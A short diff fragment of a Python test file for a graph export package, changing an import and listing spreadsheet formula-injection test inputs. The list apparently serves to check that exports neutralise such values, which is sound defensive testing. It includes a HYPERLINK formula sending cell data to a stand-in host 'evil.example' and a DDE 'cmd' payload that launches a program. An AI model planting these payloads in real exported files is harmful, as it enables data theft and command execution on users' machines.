@@ -8,7 +8,7 @@ import io
 
 from graph.exporters import export, get_exporter
 from graph.exporters.html_view import _SCRIPT, render as render_html
-from graph.output import render
+from graph.cli.output import render
 from graph.subgraph import Node, Relationship, Subgraph
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
